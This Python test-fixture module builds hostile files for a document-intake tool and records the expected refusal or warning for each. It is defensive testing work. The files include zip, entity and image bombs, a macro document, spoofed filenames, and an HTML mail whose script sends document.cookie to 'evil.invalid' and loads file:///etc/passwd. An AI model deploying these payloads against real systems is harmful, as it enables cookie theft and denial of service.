"""The bad input of the documents, as files in a folder: what each is called and what the officer must be told of it.

Small ones only; made by code, so that no hostile file lies in the repository.
"""

from __future__ import annotations

import io
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from hsdclient.sample import typed

LINES = ("# Heading", "Words of the document.")
SECRET = "open sesame please"
REFUSED, KEPT = "refused", "kept"


@dataclass(frozen=True)
class Expected:
    """`what`: refused or kept; `said`: a piece of the line that tells of it; `state` of its text when kept."""

    what: str
    said: str = ""
    state: str = ""


def locked_pdf() -> bytes:
    """A PDF that opens with `SECRET` only."""
    target = io.BytesIO()
    canvas = Canvas(target, encrypt=StandardEncryption(SECRET, canPrint=0, strength=128))
    canvas.drawString(72, 700, "Words of the document.")
    canvas.save()
    return target.getvalue()


def image_bomb(side: int = 65_000) -> bytes:
    """A PNG of `side` × `side` pixels in a few hundred bytes."""

    def part(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(bytes(4096))) + part(b"IEND", b"")


def _with(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """A zipped document with some parts replaced or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in parts:
                new.writestr(entry, old.read(entry))
        for name, part in parts.items():
            new.writestr(name, part)
    return target.getvalue()


def zip_bomb(size: int = 300 << 20) -> bytes:
    """A Word document whose text unpacks to `size` bytes."""
    return _with(typed.word("Bomb", LINES), {"word/document.xml": b"<w:document>" + b" " * size})


def entity_bomb() -> bytes:
    """A Word document with the billion laughs in it."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    told = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{laughs}]><d>&l9;</d>'
    return _with(typed.word("Bomb", LINES), {"word/document.xml": told.encode()})


def macro_document() -> bytes:
    """A Word document that carries macros."""
    plain = typed.word("Macro", LINES)
    with zipfile.ZipFile(io.BytesIO(plain)) as packed:
        types = packed.read("[Content_Types].xml").replace(
            b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
        ).replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.macroEnabled",
                  b"application/vnd.ms-word.document.macroEnabled")  # fmt: skip
    return _with(plain, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})


def hostile_mail() -> bytes:
    """An HTML mail that asks the network for a picture and brings a script."""
    return (
        b"From: a@sample.invalid\r\nTo: b@sample.invalid\r\nSubject: Hello\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body onload='x()'><p>Plain words</p>"
        b"<script>fetch('https://evil.invalid/'+document.cookie)</script>"
        b"<img src='https://pixel.invalid/1.gif'><iframe src='file:///etc/passwd'></iframe></body></html>\r\n"
    )


NAMES = {
    "n" * 251 + ".txt": "255 bytes",
    "क" * 83 + ".txt": "Devanagari of 253 bytes",
    "invoice\u202etxt.exe": "right-to-left override",
    "CON": "a device's name elsewhere",
    "nul.txt": "a device's name elsewhere",
    "x:y.txt": "a colon",
    "trailing dot.": "a trailing dot",
    "trailing space ": "a trailing space",
    "-o": "like an option",
    "new\nline.txt": "a line break",
    "\u0958.txt": "NFC",
    "क\u093c.txt": "NFD",
}


def make(place: Path) -> dict[str, Expected]:
    """Fill the folder `place`; the name of each entry as the officer sees it → what is expected."""
    expected: dict[str, Expected] = {}

    def put(name: str, content: bytes, told: Expected) -> None:
        (place / name).write_bytes(content)
        expected[name] = told

    put("empty.pdf", b"", Expected(REFUSED, "empty"))
    with (place / "huge.bin").open("wb") as sparse:
        sparse.truncate((4 << 30) + 1)
    expected["huge.bin"] = Expected(REFUSED, "larger than 4 GiB")
    os.mkfifo(place / "pipe")
    expected["pipe"] = Expected(REFUSED, "pipe or a device")
    with socket.socket(socket.AF_UNIX) as there:
        there.bind(str(place / "socket"))
    expected["socket"] = Expected(REFUSED, "pipe or a device")
    (place / "device").symlink_to("/dev/zero")
    expected["device"] = Expected(REFUSED, "pipe or a device")
    (place / "dangling").symlink_to("nowhere")
    expected["dangling"] = Expected(REFUSED)
    (place / "circle").symlink_to("circle")
    expected["circle"] = Expected(REFUSED)
    (place / "loop").mkdir()
    (place / "loop" / "again").symlink_to("..")
    (place / "loop" / "inside.txt").write_text("A file in a folder with a loop")
    expected |= {"again": Expected(REFUSED), "inside.txt": Expected(KEPT, state="read")}

    put("locked.pdf", locked_pdf(), Expected(KEPT, "password", "locked"))
    plain = typed.pdf("Sheet", LINES, kind="Letter", marking="TLP:CLEAR", office=("Office",))
    put("corrupt.pdf", plain[: len(plain) // 3], Expected(KEPT, "damaged", "failed"))
    put("nonsense.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, Expected(KEPT, "damaged", "failed"))
    put("image bomb.png", image_bomb(), Expected(KEPT, "", "*"))
    put("zip bomb.docx", zip_bomb(), Expected(KEPT, "unpack", "failed"))
    put("entity bomb.docx", entity_bomb(), Expected(KEPT, "", "failed"))
    put("laughs.xml", b'<!DOCTYPE d [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><d>&b;</d>', Expected(KEPT, state="read"))
    put("page.eml", hostile_mail(), Expected(KEPT, "script", "read"))
    put("macros.docm", macro_document(), Expected(KEPT, "macros", "read"))
    put("letter.pdf", plain, Expected(KEPT, state="read"))
    sent = datetime(2024, 3, 1, tzinfo=UTC)
    mail = typed.mail("Inside", LINES, sender="a@sample.invalid", to="b@sample.invalid", sent=sent)
    put("program.exe", b"MZ" + bytes(200) + mail, Expected(KEPT))
    for number, name in enumerate(NAMES):
        put(name, f"Sheet {number} under a name with {NAMES[name]}".encode(), Expected(KEPT, state="read"))
    raw = os.fsencode(place) + b"/caf\xe9.txt"
    with open(raw, "wb") as stream:
        stream.write(b"A name that is no UTF-8")
    expected["caf\ufffd.txt"] = Expected(KEPT, state="read")
    return expected
